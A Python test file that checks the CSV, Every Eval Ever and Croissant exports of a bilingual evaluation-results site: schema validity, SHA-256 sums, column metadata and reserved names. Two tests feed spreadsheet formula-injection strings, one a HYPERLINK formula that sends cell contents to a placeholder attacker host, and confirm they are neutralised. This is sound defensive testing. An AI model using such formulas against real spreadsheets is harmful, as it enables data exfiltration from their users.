"""The standard exports (CSV, Every Eval Ever, Croissant) are made from the verified results and pass their own formats' tools."""

import csv
import dataclasses
import hashlib
import io
import json
import logging
import re
import shutil
from pathlib import Path
from types import MappingProxyType

import jsonschema
import pytest

from sitegen.build import build_site, check_records, exports_phase
from sitegen.cli import main
from sitegen.core import model as m
from sitegen.publish.croissant import CROISSANT
from sitegen.publish.everyeval import SCHEMA_VERSION, every_eval_name
from sitegen.publish.exports import export_names
from sitegen.publish.tables import CASE_COLUMNS, CASE_TABLE, MEASURE_COLUMNS, METADATA, RUN_COLUMNS, cell, csv_bytes, measure_table
from sitegen.score.measures.registry import MEASURES

REPO = Path(__file__).resolve().parent.parent
RECORDS = REPO / "records"
EVERY_EVAL_SCHEMA = REPO / "tests" / "data" / "every-eval-ever" / "eval.schema.json"
CRASHED_RUN = "2026-10-08-nightly"
NO_MERGE_RUN = "2026-08-18-v1-baseline"  # its setup has no merge: REDUCER_SURVIVAL has nothing to count
UNPUBLISHED = "2026-10-10-trial"
LANGUAGES = ("sv", "en")


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("exports") / "site"
    build_site(RECORDS, out)
    return out


@pytest.fixture(scope="module")
def checked():
    return check_records(RECORDS)


def _records_files(checked):
    """The records files as checked in (not the public run metadata the build writes under metadata/)."""
    return tuple((d.name, d.source) for d in checked.downloads if not d.name.startswith("metadata/"))


def _exports(checked, **changes) -> dict[str, bytes]:
    """The exports of the bundled records, with fields of `checked` replaced (records, results)."""
    changed = dataclasses.replace(checked, **changes)
    return {name: file.data for name, file in exports_phase(changed.records, changed.results, changed.catalogs, changed.downloads)}


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def _published_runs(checked) -> list[m.Run]:
    return sorted(checked.records.published_runs, key=lambda r: (r.date, r.id))


# --- CSV ---------------------------------------------------------------------------------------------------------------


def test_a_measure_table_has_one_row_per_run_with_the_recorded_counts_or_a_word(checked):
    exports = _exports(checked)
    runs = _published_runs(checked)
    for measure in MEASURES:
        rows = _rows(exports[measure_table(measure)])
        assert [row["run"] for row in rows] == [r.id for r in runs]
        for row in rows:
            result = checked.results[row["run"]]
            recorded = next((x for x in result.measures if x.measure == measure), None)
            counts = [row[c] for c in ("passed", "observed", "failed", "pending", "dismissed")]
            if row["run"] == CRASHED_RUN:
                assert row["state"] == "CRASHED" and counts == ["CRASHED"] * 5
            elif recorded.state == m.NOT_OBSERVED:
                assert row["state"] == "NOT_OBSERVED" and counts == ["NOT_OBSERVED"] * 5
            else:
                assert row["state"] == recorded.state
                assert counts == [str(recorded.passed), str(recorded.observed), str(recorded.failed), str(recorded.pending),
                                  str(recorded.dismissed)]
    rows = {row["run"]: row for row in _rows(exports[measure_table("REDUCER_SURVIVAL")])}
    assert rows[NO_MERGE_RUN]["passed"] == "NOT_OBSERVED", "the bundled records hold a measure with nothing to count"


def test_the_case_table_has_a_row_per_case_result_and_a_word_where_a_case_took_part_in_nothing(checked):
    rows = _rows(_exports(checked)[CASE_TABLE])
    expected = [(run.id, c.case_version, str(c.repetition)) for run in _published_runs(checked)
                for c in sorted(checked.results[run.id].cases, key=lambda c: (c.case_version, c.repetition))]
    assert [(r["run"], r["case_version"], r["repetition"]) for r in rows] == expected and len(rows) == 375
    assert CRASHED_RUN not in {r["run"] for r in rows}, "a crashed run has no case results"
    words = 0
    for row in rows:
        result = next(c for c in checked.results[row["run"]].cases
                      if c.case_version == row["case_version"] and c.repetition == int(row["repetition"]))
        assert row["state"] == result.state
        for measure in MEASURES:
            got = (row[f"{measure}_passed"], row[f"{measure}_observed"])
            if measure in result.measures:
                assert got == tuple(str(n) for n in result.measures[measure])
            else:
                assert got == ("NOT_OBSERVED", "NOT_OBSERVED")
                words += 1
    assert words > 0


def test_the_exports_keep_of_each_run_only_what_a_summary_line_needs(checked):
    """The runs' summaries every export reads hold no cases, observations or seal (a seal has a digest per answer)."""
    from sitegen.publish.exportcontext import ExportContext

    assert any(checked.results[run.id].seal is not None for run in checked.records.published_runs)
    context = ExportContext.of(checked.records, checked.results, checked.catalogs, _records_files(checked))
    assert set(context.summaries) == {run.id for run in checked.records.published_runs}
    for run_id, summary in context.summaries.items():
        assert (summary.cases, summary.observations, summary.seal) == ((), (), None)
        assert (summary.outcome, summary.measures) == (checked.results[run_id].outcome, checked.results[run_id].measures)


def test_the_case_table_is_written_a_run_at_a_time(checked, monkeypatch):
    """Each piece of CSV the case table is written in holds one run's rows at most, so the table's text is never held
    twice at once (at 10,000 case versions writing it whole took about 190 MiB); joined, the pieces are the table."""
    from sitegen.publish import tables

    pieces = []
    real = tables.csv_rows

    def written(rows):
        rows = list(rows)
        if rows and len(rows[0]) == len(CASE_COLUMNS) and rows[0][0] != CASE_COLUMNS[0].name:  # the case table's rows
            pieces.append({row[0] for row in rows})
        return real(rows)

    monkeypatch.setattr(tables, "csv_rows", written)
    table = _exports(checked)[CASE_TABLE]
    assert len(pieces) >= 3 and all(len(piece) == 1 for piece in pieces), pieces
    assert list(dict.fromkeys(r["run"] for r in _rows(table))) == [run for piece in pieces for run in piece]


def test_every_table_is_utf8_rfc_4180_with_a_header_and_no_empty_cell(checked):
    exports = _exports(checked)
    for name, data in exports.items():
        if not name.endswith(".csv"):
            continue
        text = data.decode("utf-8")
        assert not text.startswith("\ufeff") and text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
        header, *body = list(csv.reader(io.StringIO(text, newline="")))
        columns = CASE_COLUMNS if name == CASE_TABLE else RUN_COLUMNS + MEASURE_COLUMNS
        assert header == [c.name for c in columns]
        assert body and all(len(row) == len(header) and all(value != "" for value in row) for row in body), name


def test_quoting_follows_rfc_4180():
    data = csv_bytes(["a", "b"], [["x,y", 'say "hi"'], ["two\nlines", 3]])
    assert data == b'a,b\r\n"x,y","say ""hi"""\r\n"two\nlines",3\r\n'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_would_start_a_formula_begins_with_an_apostrophe(start):
    assert cell(f"{start}HYPERLINK(\"https://evil.example\")") == f"'{start}HYPERLINK(\"https://evil.example\")"
    assert cell("granska 2026.08.1") == "granska 2026.08.1" and cell(0) == "0" and cell(12) == "12"


def test_an_engine_version_written_as_a_formula_reaches_no_table_as_one(checked):
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    runs = tuple(dataclasses.replace(r, engine_version=hostile) if r.id == NO_MERGE_RUN else r for r in checked.records.runs)
    exports = _exports(checked, records=dataclasses.replace(checked.records, runs=runs))
    for measure in MEASURES:
        rows = {row["run"]: row for row in _rows(exports[measure_table(measure)])}
        assert rows[NO_MERGE_RUN]["engine_version"] == "'" + hostile
    for name, data in exports.items():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
                assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row), (name, row)


def test_the_metadata_describes_every_column_of_every_table_in_every_language(checked):
    exports = _exports(checked)
    metadata = json.loads(exports[METADATA])
    tables = sorted(name for name in exports if name.endswith(".csv"))
    assert sorted(metadata["tables"]) == tables
    for name in tables:
        table = metadata["tables"][name]
        header = next(csv.reader(io.StringIO(exports[name].decode("utf-8"), newline="")))
        assert [c["name"] for c in table["columns"]] == header
        assert set(table["title"]) == set(table["description"]) == set(LANGUAGES)
        for described in table["columns"]:
            column = described["name"]
            assert set(described) == {"name", "title", "description", "unit", "source"}, column
            assert set(described["title"]) == set(described["description"]) == set(LANGUAGES)
            assert all(described["title"].values()) and all(described["description"].values())
            assert described["title"]["sv"] != described["title"]["en"], column
            assert described["unit"] == ("observations" if column in ("passed", "observed", "failed", "pending", "dismissed")
                                         or column.endswith(("_passed", "_observed")) else None)
            assert described["source"]["url"].startswith(checked.records.config.base_url)
    sv = next(c for c in metadata["tables"][measure_table("GROUNDING")]["columns"] if c["name"] == "passed")["description"]["sv"]
    assert "godkän" in sv.lower(), "the Swedish text comes from the Swedish catalog"
    assert "license" not in metadata, "the bundled configuration names no licence, so none is claimed"


def test_a_configured_licence_is_named_by_the_metadata_and_by_croissant(checked):
    licence = MappingProxyType({"name": "CC BY 4.0", "url": "https://creativecommons.org/licenses/by/4.0/"})
    config = dataclasses.replace(checked.records.config, license=licence)
    exports = _exports(checked, records=dataclasses.replace(checked.records, config=config))
    metadata = json.loads(exports[METADATA])
    assert metadata["license"] == dict(licence)
    assert all(c["license"] == dict(licence) for t in metadata["tables"].values() for c in t["columns"])
    assert json.loads(exports[CROISSANT])["license"] == licence["url"]


# --- Every Eval Ever ---------------------------------------------------------------------------------------------------


def test_the_vendored_schema_is_every_eval_ever_0_3_0():
    noted = re.search(r"SHA-256\s+`([0-9a-f]{64})`", (EVERY_EVAL_SCHEMA.parent / "README.md").read_text(encoding="utf-8"))
    assert noted and hashlib.sha256(EVERY_EVAL_SCHEMA.read_bytes()).hexdigest() == noted.group(1), "the released file, unedited"
    schema = json.loads(EVERY_EVAL_SCHEMA.read_text(encoding="utf-8"))
    assert schema["version"] == SCHEMA_VERSION == "0.3.0"
    jsonschema.Draft7Validator.check_schema(schema)


def test_every_published_run_has_an_every_eval_ever_file_that_the_schema_accepts(checked):
    exports = _exports(checked)
    validator = jsonschema.Draft7Validator(json.loads(EVERY_EVAL_SCHEMA.read_text(encoding="utf-8")))
    names = sorted(name for name in exports if name.startswith("every-eval-ever-"))
    assert names == sorted(every_eval_name(r) for r in checked.records.published_runs) and len(names) == 6
    for name in names:
        record = json.loads(exports[name])
        errors = [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in validator.iter_errors(record)]
        assert errors == [], name
        assert record["schema_version"] == "0.3.0"


def test_the_schema_refuses_what_is_not_its_format(checked):
    """The validation means something: a record with a ratio written as text, or an unknown field, is refused."""
    validator = jsonschema.Draft7Validator(json.loads(EVERY_EVAL_SCHEMA.read_text(encoding="utf-8")))
    record = json.loads(_exports(checked)[every_eval_name(checked.records.run(NO_MERGE_RUN))])
    record["evaluation_results"][0]["score_details"]["score"] = "83 of 87"
    record["internal"] = {}
    assert len(list(validator.iter_errors(record))) == 2


def test_every_eval_ever_gives_passed_of_observed_and_leaves_out_what_it_has_no_place_for(checked):
    exports = _exports(checked)
    for run in _published_runs(checked):
        record = json.loads(exports[every_eval_name(run)])
        result = checked.results[run.id]
        notes = record["source_metadata"]["additional_details"]
        if run.id == CRASHED_RUN:
            assert record["evaluation_results"] == []
            assert notes["left_out"] == " ".join(MEASURES) and notes["left_out_state"] == "CRASHED" and notes["note"]
            continue
        observed = [x for x in result.measures if x.state != m.NOT_OBSERVED]
        assert [r["evaluation_name"] for r in record["evaluation_results"]] == [x.measure for x in observed]
        for entry, measure in zip(record["evaluation_results"], observed):
            assert entry["score_details"]["score"] == measure.passed
            assert entry["metric_config"]["max_score"] == measure.observed and entry["metric_config"]["min_score"] == 0
            details = entry["score_details"]["details"]
            assert (details["passed"], details["observed"], details["state"]) == (str(measure.passed), str(measure.observed),
                                                                                  measure.state)
            assert details["passed_of_observed"] == f"{measure.passed} of {measure.observed}"
        left = [x.measure for x in result.measures if x.state == m.NOT_OBSERVED]
        assert notes.get("left_out", "") == " ".join(left)
        if run.id == NO_MERGE_RUN:
            assert left == ["REDUCER_SURVIVAL"] and notes["left_out_state"] == "NOT_OBSERVED"


# --- Croissant ---------------------------------------------------------------------------------------------------------


def _croissant(path: Path):
    mlc = pytest.importorskip("mlcroissant")
    logging.getLogger("absl").setLevel(logging.ERROR)  # its warnings about recommended properties go to the log
    return mlc.Dataset(jsonld=str(path))


def test_mlcroissant_loads_the_croissant_file_and_reads_every_record_set(site, checked):
    dataset = _croissant(site / "downloads" / CROISSANT)
    assert dataset.metadata.ctx.issues.errors == set()
    sets = {record_set.uuid: record_set for record_set in dataset.metadata.record_sets}
    assert sorted(sets) == sorted((*MEASURES, "case-results", "runs"))
    outcomes = [(r["runs/run"].decode(), r["runs/outcome"].decode()) for r in dataset.records("runs")]
    assert outcomes == [(run.id, checked.results[run.id].outcome) for run in _published_runs(checked)]
    runs = _published_runs(checked)
    for measure in MEASURES:
        records = list(dataset.records(measure))
        assert [r[f"{measure}/run"].decode() for r in records] == [run.id for run in runs]
        for record, run in zip(records, runs):
            recorded = next((x for x in checked.results[run.id].measures if x.measure == measure), None)
            if recorded is not None and recorded.state != m.NOT_OBSERVED:
                assert record[f"{measure}/passed"].decode() == str(recorded.passed)
    assert len(list(dataset.records("case-results"))) == 375


def test_croissant_lists_every_other_download_with_its_sha256(site):
    downloads = site / "downloads"
    document = json.loads((downloads / CROISSANT).read_text(encoding="utf-8"))
    files = {f["@id"]: f for f in document["distribution"]}
    # every file SHA256SUMS lists (not what is published beside it to check it: the signature, the log)
    listed = {line.split("  ", 1)[1] for line in (downloads / "SHA256SUMS").read_text(encoding="utf-8").splitlines()}
    # the data files, the metadata folder's included (the JSON Schemas describe their format, not the data)
    served = {p.relative_to(downloads).as_posix() for p in downloads.rglob("*") if p.is_file()
              and not p.relative_to(downloads).as_posix().startswith("schemas/")} & listed
    assert set(files) == served - {CROISSANT} and served - {CROISSANT}
    for name, entry in files.items():
        assert entry["@type"] == "cr:FileObject" and entry["contentUrl"] == name
        assert entry["sha256"] == hashlib.sha256((downloads / name).read_bytes()).hexdigest(), name
    assert document["conformsTo"] == "http://mlcommons.org/croissant/1.0"


def test_croissant_names_and_describes_everything_in_swedish_and_english(site):
    document = json.loads((site / "downloads" / CROISSANT).read_text(encoding="utf-8"))

    def languages(tagged):
        return sorted(t["@language"] for t in tagged if t["@value"])

    assert languages(document["alternateName"]) == ["en", "sv"] and languages(document["description"]) == ["en", "sv"]
    described = document["distribution"] + document["recordSet"] + [f for s in document["recordSet"] for f in s["field"]]
    assert all(languages(item["description"]) == ["en", "sv"] for item in described)
    texts = {t["@language"]: t["@value"] for t in document["description"]}
    assert texts["sv"] != texts["en"]


def _refused_for_its_hash(read, name: str) -> None:
    """mlcroissant stops reading, and the cause it gives is the file's hash (not some other failure)."""
    with pytest.raises(Exception) as caught:
        read()
    chain, error = [], caught.value
    while error is not None:
        chain.append(str(error))
        error = error.__cause__ or error.__context__
    assert any("Hash of downloaded file" in text and name in text for text in chain), chain


def test_mlcroissant_refuses_a_file_whose_bytes_differ_from_its_sha256(site, tmp_path):
    copy = tmp_path / "downloads"
    shutil.copytree(site / "downloads", copy)
    victim = copy / measure_table("GROUNDING")
    text = victim.read_text(encoding="utf-8")
    changed = re.sub(r",BLOCK,83,87,", ",BLOCK,84,87,", text, count=1)
    assert changed != text
    victim.write_text(changed, encoding="utf-8", newline="")
    dataset = _croissant(copy / CROISSANT)
    _refused_for_its_hash(lambda: list(dataset.records("GROUNDING")), measure_table("GROUNDING"))
    assert len(list(dataset.records("CLEAN_CASE_FLAWS"))) == 6, "the files left alone still read"


def test_mlcroissant_refuses_a_results_record_whose_bytes_differ_from_its_sha256(site, tmp_path):
    copy = tmp_path / "downloads"
    shutil.copytree(site / "downloads", copy)
    results = copy / "granska-quality-results.json"
    data = results.read_bytes()
    results.write_bytes(data.replace(b'"outcome": "PASS"', b'"outcome": "BLOCK"', 1))
    assert results.read_bytes() != data
    dataset = _croissant(copy / CROISSANT)
    _refused_for_its_hash(lambda: list(dataset.records("runs")), "granska-quality-results.json")


# --- all exports -------------------------------------------------------------------------------------------------------


def test_exports_are_in_sha256sums_and_listed_with_a_sentence_on_the_downloads_page_in_both_languages(site, checked):
    names = sorted(_exports(checked))
    sums = dict(reversed(line.split("  ", 1)) for line in (site / "downloads" / "SHA256SUMS").read_text().splitlines())
    pages = {}
    for name in names:
        assert sums[name] == hashlib.sha256((site / "downloads" / name).read_bytes()).hexdigest(), name
    for lang in LANGUAGES:
        html = (site / lang / "downloads.html").read_text(encoding="utf-8")
        section = html[html.index('id="exports-heading"'):html.index('id="verify-heading"')]
        assert sorted(set(re.findall(r'href="\.\./downloads/([^"]+)"', section))) == names
        for name in names:
            assert hashlib.sha256((site / "downloads" / name).read_bytes()).hexdigest() in section
        pages[lang] = re.sub(r"<[^>]+>", "", section)
        for word in ("CSV", "Every Eval Ever", "Croissant", "NOT_OBSERVED"):
            assert word in pages[lang]
    assert "kalkylprogram" in pages["sv"] and "spreadsheets" in pages["en"]


def test_exports_are_the_same_bytes_every_time(checked):
    assert _exports(checked) == _exports(checked)


def test_exports_are_made_from_the_recorded_results_without_scoring_again(checked):
    """A count changed in the results handed to the exports is what they show: they read the verified record, not a scoring."""
    run = checked.results[NO_MERGE_RUN]
    measures = tuple(dataclasses.replace(x, passed=x.passed - 1) if x.measure == "GROUNDING" else x for x in run.measures)
    results = {r.id: checked.results[r.id] for r in checked.records.published_runs}
    results[NO_MERGE_RUN] = dataclasses.replace(run, measures=measures)
    exports = _exports(checked, results=MappingProxyType(results))
    rows = {row["run"]: row for row in _rows(exports[measure_table("GROUNDING")])}
    recorded = next(x for x in run.measures if x.measure == "GROUNDING")
    assert rows[NO_MERGE_RUN]["passed"] == str(recorded.passed - 1)
    record = json.loads(exports[every_eval_name(checked.records.run(NO_MERGE_RUN))])
    assert record["evaluation_results"][0]["score_details"]["score"] == recorded.passed - 1


def test_exports_hold_no_internal_field_and_no_unpublished_run(checked):
    internal = set(checked.records.config.internal_fields)
    assert internal

    def keys(value):
        if isinstance(value, dict):
            for key, item in value.items():
                yield key
                yield from keys(item)
        elif isinstance(value, list):
            for item in value:
                yield from keys(item)

    for name, data in _exports(checked).items():
        assert UNPUBLISHED.encode() not in data, name
        if name.endswith(".json"):
            assert not internal & set(keys(json.loads(data))), name
        else:
            assert not internal & set(next(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))), name


def test_the_names_the_exports_take_are_known_before_they_are_made(checked):
    assert export_names(checked.records) == set(_exports(checked))


def test_a_records_file_published_under_an_exports_name_is_refused_at_that_name_with_the_other_problems(tmp_path, capsys):
    records = tmp_path / "records"
    shutil.copytree(RECORDS, records)
    config = json.loads((records / "sitegen.json").read_text(encoding="utf-8"))
    config["publish"][1]["name"] = CROISSANT
    config["publish"][2]["name"] = measure_table("GROUNDING")
    (records / "sitegen.json").write_text(json.dumps(config, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    cases = json.loads((records / "cases.json").read_text(encoding="utf-8"))
    cases["case_versions"][0]["title"] = UNPUBLISHED  # a published file naming an unpublished run: found by the same phase
    (records / "cases.json").write_text(json.dumps(cases, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    out = tmp_path / "site"
    assert main(["build", "--records", str(records), "--out", str(out), "--quiet"]) == 2
    err = capsys.readouterr().err
    lines = [line for line in err.splitlines() if "error:" in line]
    text = (records / "sitegen.json").read_text(encoding="utf-8").splitlines()
    row = next(i for i, line in enumerate(text, 1) if f'"{CROISSANT}"' in line)
    assert any(line.startswith(f"{records / 'sitegen.json'}:{row}:") and "/publish/1/name" in line and "[publish.name-taken]" in line
               for line in lines), err
    assert any("/publish/2/name" in line and "[publish.name-taken]" in line for line in lines), err
    assert any("[publish.unpublished-run]" in line for line in lines), "the other publication problem comes in the same run"
    assert "Traceback" not in err and not out.exists()


# the names the build itself gives files under downloads/ beside the exports: the run metadata folder, the publication
# log with its stored SHA256SUMS, the signature and the key it is checked with; any case, as a file system may ignore it
@pytest.mark.parametrize("name", ["metadata", "Metadata", "publications", "publications.jsonl", "SHA256SUMS.sig", "allowed_signers"])
def test_a_records_file_published_under_a_name_the_build_writes_is_refused_at_that_name(tmp_path, capsys, name):
    records = tmp_path / "records"
    shutil.copytree(RECORDS, records)
    config = json.loads((records / "sitegen.json").read_text(encoding="utf-8"))
    config["publish"][1]["name"] = name
    (records / "sitegen.json").write_text(json.dumps(config, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    out = tmp_path / "site"
    assert main(["build", "--records", str(records), "--out", str(out), "--quiet"]) == 2
    err = capsys.readouterr().err
    row = next(i for i, line in enumerate((records / "sitegen.json").read_text(encoding="utf-8").splitlines(), 1)
               if f'"{name}"' in line)
    assert err.startswith(f"{records / 'sitegen.json'}:{row}:") and ": /publish/1/name: error: " in err, err
    assert err.rstrip().endswith("[publish.reserved-name]") and len(err.splitlines()) == 1, err
    assert "Traceback" not in err and not out.exists()


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_method_page_lists_the_records_files_and_the_downloads_page_keeps_them_apart_from_the_exports(site, checked, lang):
    records_files = sorted(name for name, _ in _records_files(checked))
    method = (site / lang / "method.html").read_text(encoding="utf-8")
    section = method[method.index('id="downloads"'):method.index('id="changes"')]
    assert sorted(set(re.findall(r'href="\.\./downloads/([^"]+)"', section))) == records_files
    page = (site / lang / "downloads.html").read_text(encoding="utf-8")
    first = page[page.index('id="records-heading"'):page.index('id="metadata-heading"')]
    assert sorted(set(re.findall(r'href="\.\./downloads/([^"]+)"', first))) == records_files
